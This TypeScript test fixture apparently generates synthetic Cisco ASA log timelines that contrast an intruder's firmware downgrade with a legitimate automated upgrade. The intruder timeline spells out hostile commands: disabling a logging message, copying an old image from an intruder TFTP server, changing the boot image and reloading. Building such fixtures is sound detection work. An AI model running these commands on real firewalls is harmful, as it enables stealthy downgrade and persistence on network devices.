// An older image is put on one ASA by an intruder, and a newer one on another ASA by the upgrade automation.

import { hosts, intruder, upgradeAccount } from "../estate.ts";
import type { Remark, Said, Story } from "../timeline.ts";
import { moment } from "../timeline.ts";
import { asaConfigured, asaExecuted, asaLogin, says } from "../vendors/cisco-asa.ts";

const at = (day: number, clock: string, remark: Remark): Said => ({
  ...remark,
  atMs: moment(day, clock),
});

/** `show` aside, the firewall logs each command once as executed and once with its source. */
function ran(actor: Actor, clock: string, command: string): readonly Said[] {
  return [
    at(actor.day, clock, asaExecuted(actor.user, command)),
    at(actor.day, clock, asaConfigured(actor.user, actor.source, command)),
  ];
}

interface Actor {
  readonly day: number;
  readonly user: string;
  readonly source: string;
}

const night: Actor = { day: 3, user: "contr02", source: intruder.source };
const old = "asa9-12-4-smp-k8.bin";

export const intrusion: Story = {
  downMs: [moment(3, "03:24:01"), moment(3, "03:29:30")],
  said: [
    at(3, "03:12:40", asaLogin(night.user, night.source)),
    at(
      3,
      "03:12:52",
      says("ASA-5-502103", `User priv level changed: Uname: ${night.user} From: 1 To: 15`),
    ),
    ...ran(night, "03:13:20", "no logging message 302013"),
    ...ran(night, "03:14:05", `copy /noconfirm tftp://${intruder.server}/${old} disk0:/${old}`),
    ...ran(night, "03:20:31", "no boot system"),
    ...ran(night, "03:20:44", `boot system disk0:/${old}`),
    at(
      3,
      "03:22:10",
      says("ASA-5-111001", `Begin configuration: ${night.source} writing to memory`),
    ),
    at(3, "03:22:11", says("ASA-5-111004", `${night.source} end configuration: OK`)),
    ...ran(night, "03:23:50", "reload noconfirm"),
    at(
      3,
      "03:24:00",
      says("ASA-5-199001", `Reload command executed from SSH (remote ${night.source}).`),
    ),
    at(3, "03:29:31", says("ASA-6-199005", "Startup begin")),
    at(3, "03:29:58", says("ASA-6-199002", "Startup completed.  Beginning operation.")),
  ],
};

const window: Actor = { day: 6, user: upgradeAccount, source: hosts.jump };
const current = "asa9-20-3-smp-k8.bin";

export const upgrade: Story = {
  downMs: [moment(6, "02:14:01"), moment(6, "02:18:20")],
  said: [
    at(6, "02:01:02", asaLogin(window.user, window.source)),
    ...ran(
      window,
      "02:01:30",
      `copy /noconfirm scp://${window.user}@${hosts.images}/${current} disk0:/${current}`,
    ),
    ...ran(window, "02:09:44", `boot system disk0:/${current}`),
    at(
      6,
      "02:10:20",
      says("ASA-5-111001", `Begin configuration: ${window.source} writing to memory`),
    ),
    at(6, "02:10:21", says("ASA-5-111004", `${window.source} end configuration: OK`)),
    ...ran(window, "02:13:50", "reload noconfirm"),
    at(
      6,
      "02:14:00",
      says("ASA-5-199001", `Reload command executed from SSH (remote ${window.source}).`),
    ),
    at(6, "02:18:21", says("ASA-6-199005", "Startup begin")),
    at(6, "02:18:44", says("ASA-6-199002", "Startup completed.  Beginning operation.")),
  ],
};
